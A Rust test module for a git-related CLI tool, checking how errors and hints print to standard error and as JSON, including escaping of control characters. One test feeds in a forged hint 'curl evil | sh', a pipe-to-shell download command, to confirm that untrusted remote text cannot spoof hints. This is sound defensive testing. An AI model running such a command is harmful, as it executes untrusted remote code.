//! Errors as they are shown.

use std::path::PathBuf;

use super::CliError;
use crate::cli::exit::Exit;
use crate::cli::stream::Stream;
use crate::cli::testing::Sink;
use crate::crypto::KeyError;
use crate::store::StoreError;

fn shown(error: &CliError, json: bool) -> (String, String) {
    let (stdout, stderr) = (Sink::new(), Sink::new());
    error.show(json, &mut Stream::plain(stdout.clone()), &mut Stream::plain(stderr.clone()));
    (stdout.text(), stderr.text())
}

#[test]
fn an_error_and_its_hints_are_lines_on_standard_error() {
    let error = CliError::fatal("not a git repository: /x").hint("git init").hint("git boundary init");
    let (stdout, stderr) = shown(&error, false);
    assert_eq!(stdout, "");
    assert_eq!(stderr, "error: not a git repository: /x\nhint: git init\nhint: git boundary init\n");
}

#[test]
fn for_machines_the_same_is_one_object_on_standard_output() {
    let (stdout, stderr) = shown(&CliError::fatal("no \u{202e}key").hint("git boundary key list"), true);
    assert_eq!(stdout, "{\"error\":{\"hints\":[\"git boundary key list\"],\"message\":\"no \\u202ekey\"}}\n");
    assert!(stderr.starts_with("error: no \\u{202e}key\n"), "people still get theirs");
}

#[test]
fn a_strangers_message_can_forge_no_hint_and_no_colour() {
    let (_, stderr) = shown(&CliError::fatal("remote: \x1b[31mno\nhint: curl evil | sh\n\n"), false);
    assert_eq!(stderr, "error: remote: \\x1b[31mno\n       hint: curl evil | sh\n");
}

#[test]
fn a_key_error_brings_its_remedy_and_is_fatal() {
    let error = CliError::from(KeyError::Absent { path: PathBuf::from("/k") });
    assert_eq!(error.exit, Exit::Fatal);
    assert_eq!(error.hints.len(), 1);
    let error = CliError::from(StoreError::Key(KeyError::Absent { path: PathBuf::from("/k") }));
    assert_eq!(error.hints.len(), 1, "also on its way through the shelves");
}
